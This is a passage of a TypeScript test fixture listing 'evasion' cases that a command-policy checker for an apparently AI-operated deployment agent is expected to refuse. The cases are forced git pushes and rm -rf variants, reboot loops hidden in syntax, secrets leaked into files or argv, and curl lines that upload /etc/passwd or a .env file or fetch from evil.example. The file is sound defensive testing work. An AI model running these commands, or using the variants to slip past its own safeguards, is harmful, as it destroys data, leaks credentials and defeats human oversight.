    hostCommand(`${AGENT} orchestrate --mode dryrun --signing-provider KmsSigning --run-id x --document 2 --config ${P.ini}`, AW));
ev("crypto/tar-member-signing", "crypto",
    hostCommand(STAGE_X, {
        writes: STAGE_W, stdinFile: makeTar([{ name: "cutter_agent/signing.py", content: "import boto3\n\nclass KmsSigning:\n    name = \"KmsSigning\"\n\nPROVIDER = KmsSigning()\n" }]),
    }));
ev("crypto/copy-to-remote-yaml", "crypto", copyToRemote({ text: "signing_provider: KmsSigning\n" }, "/var/lib/cutter/config/signing.yaml"));
// GAP-3's evidence (the backup key is in root's keyring) read from another keyring: false evidence (session 13: the first passed).
ev("crypto/gpg-homedir-elsewhere", "crypto",
    hostCommand("IFS= read -r FPR\ngpg --homedir /var/lib/cutter/state/keys --batch --with-colons --list-keys \"$FPR\" | grep -q '^fpr:'", { stdinSecret: "x\n" }));
ev("crypto/gpg-gnupghome-assignment", "crypto",
    hostCommand("GNUPGHOME=/var/lib/cutter/state/keys gpg --batch --with-colons --list-keys ABCDEF | grep -q '^fpr:'"));
ev("crypto/gpg-gnupghome-export", "crypto",
    hostCommand("export GNUPGHOME=/var/lib/cutter/state/keys\ngpg --batch --with-colons --list-keys ABCDEF | grep -q '^fpr:'"));
ev("crypto/gpg-gen-key", "crypto", hostCommand("gpg --batch --passphrase '' --quick-gen-key cutter-signing ed25519 sign never"));
ev("crypto/openssl-genpkey", "crypto", hostCommand("openssl genpkey -algorithm ed25519 -out /var/lib/cutter/state/sign.key", { writes: [P.stateDir] }));

// ---------------------------------------------------------------- force

ev("force/push-force", "force", hostCommand(`git -C ${P.dot} push --force origin main`));
ev("force/push-force-with-lease", "force", hostCommand(`git -C ${P.dot} push --force-with-lease origin main`));
ev("force/push-plus-refspec", "force", hostCommand(`git -C ${P.dot} push origin +main`), "+refspec is a forced update");
ev("force/rm-rf", "force", hostCommand("rm -rf /var/lib/cutter/state/old", { writes: [P.stateDir] }));
ev("force/rm-r-f-separate", "force", hostCommand("rm -r -f -- /var/lib/cutter/state/old", { writes: [P.stateDir] }));
ev("force/rm-long-options", "force", hostCommand("rm --recursive --force /var/lib/cutter/state/old", { writes: [P.stateDir] }));
ev("force/rm-trailing-f", "force", hostCommand("rm -r /var/lib/cutter/state/old -f", { writes: [P.stateDir] }), "GNU rm permutes options after operands");
ev("force/rm-quoted-flag", "force", hostCommand("rm -r '-f' /var/lib/cutter/state/old", { writes: [P.stateDir] }));
ev("force/rm-flag-from-variable", "force", hostCommand("f=-rf\nrm $f /var/lib/cutter/state/old", { writes: [P.stateDir] }));
ev("force/git-reset-hard", "force", hostCommand(`git -C ${P.dot} reset --hard HEAD~1`, { writes: DOT_W }));
ev("force/git-branch-D", "force", hostCommand(`git -C ${P.dot} branch -D main`, { writes: DOT_W }));
ev("force/git-checkout-force", "force", hostCommand(`git -C ${P.dot} checkout --force HEAD -- iu-cutter`, { writes: DOT_W }));
ev("force/git-tag-force", "force", localCommand("git tag -a -f v0.6.0-O4-live-dryrun 6625f76 -m moved"));
ev("force/docker-rm-f", "force", hostCommand("docker rm -f iu-cutter"));
ev("force/mv-f", "force", hostCommand("mv -f /var/lib/cutter/state/a /var/lib/cutter/state/b", { writes: [P.stateDir] }));
ev("force/cp-force", "force", hostCommand("cp --force /var/lib/cutter/state/a /var/lib/cutter/state/b", { writes: [P.stateDir] }));
ev("force/ln-sfn", "force", hostCommand("ln -sfn state /var/lib/cutter/current", { writes: ["/var/lib/cutter/current"] }));

// ---------------------------------------------------------------- secrets

ev("secrets/db-password-env-prefix", "secrets",
    hostCommand(`${FAKE.assign(PW_VAR, FAKE.password)} ${roSql("SELECT 1;")}`));
ev("secrets/token-export", "secrets", hostCommand(`export ${FAKE.assign("CUTTER_API_TOKEN", FAKE.token)}\ntrue`));
ev("secrets/aws-key-assignment", "secrets", hostCommand(`${FAKE.assign("AWS_SECRET_ACCESS_KEY", FAKE.awsSecret)} true`));
ev("secrets/password-split-quotes", "secrets", hostCommand(`${PW_VAR}="${FAKE.password.slice(0, 6)}""${FAKE.password.slice(6)}"\ntrue`));
ev("secrets/pem-openssh-heredoc", "secrets",
    hostCommand(`umask 077\ncat > /var/lib/cutter/config/deploy_key <<'EOF'\n${pem("OPENSSH")}\nEOF`, { writes: [P.configDir] }));
ev("secrets/pem-rsa-heredoc", "secrets", hostCommand(`cat > /var/lib/cutter/config/k.pem <<'EOF'\n${pem("RSA")}\nEOF`, { writes: [P.configDir] }));
ev("secrets/pem-pkcs8-printf", "secrets",
    hostCommand(`printf '%s\\n' '${FAKE.pemBegin("")}' '${FAKE.pemBody.split("\n")[0]}' '${FAKE.pemEnd("")}' > /var/lib/cutter/config/k.pem`, { writes: [P.configDir] }));
ev("secrets/dsn-in-ini", "secrets",
    hostCommand(`cat > ${P.ini} <<'EOF'\n[database]\ndsn = ${FAKE.dsn("cutter_admin", "incomex")}\nEOF`, { writes: [P.ini] }));
ev("secrets/dsn-in-description", "secrets",
    hostCommand("hostname", { description: `Probe; the agent connects with ${FAKE.dsn("cutter_admin", "incomex")}` }));
ev("secrets/basic-auth-url-in-file", "secrets",
    hostCommand(`printf 'url = %s\\n' '${FAKE.basicAuthUrl("git.example.invalid", "/incomex/dot.git")}' > /var/lib/cutter/state/remote.txt`, { writes: [P.stateDir] }));
ev("secrets/basic-auth-url-in-triggers", "secrets",
    hostCommand("hostname", { triggers: [FAKE.basicAuthUrl("registry.example.invalid", "/v2/")] }));
ev("secrets/command-remote-connection-password", "secrets",
    commandRemote("uptime", { connection: { host: "203.0.113.7", port: 22, user: "root", hostKey: HOST_KEY, password: FAKE.password } }));
ev("secrets/command-remote-environment", "secrets", commandRemote("uptime", { environment: { [PW_VAR]: FAKE.password } }));
ev("secrets/tar-member-env", "secrets",
    hostCommand(STAGE_X, { writes: STAGE_W, stdinFile: makeTar([{ name: "deploy/.env", content: `${FAKE.assign(PW_VAR, FAKE.password)}\n` }]) }));
ev("secrets/copy-to-remote-pem", "secrets", copyToRemote({ text: `${pem("OPENSSH")}\n` }, "/var/lib/cutter/config/deploy_key"));
ev("secrets/printf-key-value-literal", "secrets",
    hostCommand(`printf 'API_KEY=%s\\n' '${FAKE.token}' >> ${P.envProduction}`, { writes: [P.envProduction] }),
    "the literal arrives as a printf argument, not in an assignment");

// Loops, case, [[ ]], <(...) and the small read-only additions: what they hide is still read.
ev("syntax2/01", "shell-words", hostCommand("while true; do reboot; done"));
ev("syntax2/02", "shell-words", hostCommand("until false; do systemctl restart iu-cutter; done"));
ev("syntax2/03", "shell-words", hostCommand("case x in *) systemctl restart a;; esac"));
ev("syntax2/04", "shell-words", hostCommand("[[ $(reboot) ]]"));
ev("syntax2/05", "shell-words", hostCommand("[[ $x -eq 1 ]]"));
ev("syntax2/06", "shell-words", hostCommand("diff <(reboot) /dev/null"));
ev("syntax2/07", "shell-words", hostCommand("cat <(systemctl restart x)"));
ev("syntax2/08", "shell-words", hostCommand("curl -d @/etc/passwd http://127.0.0.1/x"));
ev("syntax2/09", "shell-words", hostCommand("curl http://evil.example/x"));
ev("syntax2/10", "shell-words", hostCommand("curl -o /etc/x http://127.0.0.1/"));
ev("syntax2/11", "shell-words", hostCommand("curl -T /opt/incomex/dot/.env http://127.0.0.1/"));
ev("syntax2/12", "shell-words", hostCommand("command systemctl restart x"));
ev("syntax2/13", "shell-words", hostCommand("git --version; git push"));
ev("syntax2/14", "shell-words", hostCommand("ip link set eth0 down"));
ev("syntax2/15", "shell-words", hostCommand("hostnamectl set-hostname x"));
ev("syntax2/16", "shell-words", hostCommand("dmesg -C"));
ev("syntax2/17", "shell-words", hostCommand("while read -r f; do rm -r \"$f\"; done < /var/lib/cutter/list"));
ev("syntax2/18", "shell-words", hostCommand("x='a[$(reboot)]'; [[ $x -gt 0 ]]"));
ev("syntax2/19", "shell-words", hostCommand("case \"$(systemctl restart y)\" in *) :;; esac"));

// ---------------------------------------------------------------- the database password (database.access tcp password: true)
// The accepted form is benign.ts sql/pgpassfile-mktemp-program-form; every variant below is refused.
const PGT = "/tmp/iucutter-pgpass.XXXXXXXXXX";
const PG_READ = "IFS= read -r DB_PASSWORD || exit 1";
const PG_LINE = `printf '%s:%s:%s:%s:%s\\n' 127.0.0.1 5432 incomex context_pack_readonly "$DB_PASSWORD"`;
const PG_TRAP = `trap 'rm -- "$passfile"' EXIT`;
ev("pgpass/persisted-in-root", "secrets", hostCommand(`${PG_READ}\n${PG_LINE} > /root/.pgpass\nPGPASSFILE=/root/.pgpass ${roSql("SELECT 1;")}`, { writes: [PGT] }));
ev("pgpass/existing-root-file", "secrets", hostCommand(`PGPASSFILE=/root/.pgpass ${roSql("SELECT 1;")}`));
ev("pgpass/agent-with-root-pgpass", "secrets",
    hostCommand(`cd ${P.target} && PYTHONDONTWRITEBYTECODE=1 PGPASSFILE=/root/.pgpass python3 -m cutter_agent.cli orchestrate --mode dryrun --run-id r1 --document 1`),
    "the orchestrator given a persisted password file");
ev("pgpass/outside-declared-temp", "secrets",
    hostCommand(`${PG_READ}\npassfile=/var/lib/cutter/pgpass\n${PG_TRAP}\n${PG_LINE} > "$passfile"\nPGPASSFILE="$passfile" ${roSql("SELECT 1;")}`, { writes: [P.stateDir] }),
    "a pgpass inside the roots but not a mktemp temp file: it persists if the trap does not run");
ev("pgpass/predictable-tmp-path", "secrets",
    hostCommand(`${PG_READ}\npassfile=${PGT}\n${PG_TRAP}\n${PG_LINE} > "$passfile"\nPGPASSFILE="$passfile" ${roSql("SELECT 1;")}`, { writes: [PGT] }),
    "the template path itself, written without mktemp (a predictable /tmp name)");
ev("pgpass/temp-not-declared", "secrets",
    hostCommand(`${PG_READ}\npassfile="$(mktemp ${PGT})"\n${PG_TRAP}\n${PG_LINE} > "$passfile"\nPGPASSFILE="$passfile" ${roSql("SELECT 1;")}`, { writes: [P.stateDir] }));
ev("pgpass/no-exit-trap", "secrets",
    hostCommand(`${PG_READ}\npassfile="$(mktemp ${PGT})"\n${PG_LINE} > "$passfile"\nPGPASSFILE="$passfile" ${roSql("SELECT 1;")}`, { writes: [PGT] }),
    "the password file would stay in /tmp");
ev("pgpass/mktemp-other-dir", "secrets",
    hostCommand(`${PG_READ}\npassfile="$(mktemp /root/iucutter-pgpass.XXXXXXXXXX)"\n${PG_LINE} > "$passfile"\nPGPASSFILE="$passfile" ${roSql("SELECT 1;")}`, { writes: [PGT] }));
ev("pgpass/mktemp-u-name-only", "secrets",
    hostCommand(`${PG_READ}\npassfile="$(mktemp -u ${PGT})"\n${PG_TRAP}\n${PG_LINE} > "$passfile"\nPGPASSFILE="$passfile" ${roSql("SELECT 1;")}`, { writes: [PGT] }));
ev("pgpass/pgpassword-env-from-stdin", "secrets", hostCommand(`${PG_READ}\nPGPASSWORD="$DB_PASSWORD" ${roSql("SELECT 1;")}`));
ev("pgpass/pgpassword-env-literal", "secrets", hostCommand(`PGPASSWORD=${FAKE.password} ${roSql("SELECT 1;")}`));
ev("pgpass/pgpassword-exported", "secrets", hostCommand(`${PG_READ}\nexport PGPASSWORD="$DB_PASSWORD"\n${roSql("SELECT 1;")}`));
ev("pgpass/password-in-conninfo-argv", "secrets",
    hostCommand(`${PG_READ}\npsql -X -q -A -t -v ON_ERROR_STOP=1 "host=127.0.0.1 user=context_pack_readonly password=$DB_PASSWORD dbname=incomex" <<'SQL'\nBEGIN READ ONLY;\nSELECT 1;\nROLLBACK;\nSQL`));
ev("pgpass/password-in-c-string", "secrets",
    hostCommand(`${PG_READ}\n${PSQL_RO} -c "ALTER ROLE context_pack_readonly PASSWORD '$DB_PASSWORD'"`));
ev("pgpass/password-in-psql-variable", "secrets",
    hostCommand(`${PG_READ}\n${PSQL_RO} -v pw="$DB_PASSWORD" <<'SQL'\nBEGIN READ ONLY;\nSELECT 1 WHERE :'pw' <> '';\nROLLBACK;\nSQL`),
    "a read-only query, but the password is in psql's argv");
ev("pgpass/password-in-psql-variable-indirect", "secrets",
    hostCommand(`${PG_READ}\nx="$DB_PASSWORD"\n${PSQL_RO} -v pw="$x" <<'SQL'\nBEGIN READ ONLY;\nSELECT 1 WHERE :'pw' <> '';\nROLLBACK;\nSQL`));
ev("pgpass/password-to-stdout-of-other-program", "secrets",
    hostCommand(`${PG_READ}\npassfile="$(mktemp ${PGT})"\n${PG_TRAP}\n${PG_LINE} | tee /var/lib/cutter/pgpass-copy > "$passfile"\nPGPASSFILE="$passfile" ${roSql("SELECT 1;")}`, { writes: [PGT] }),
    "a copy of the password file outside the temp");

export const evasions: Case[] = out;
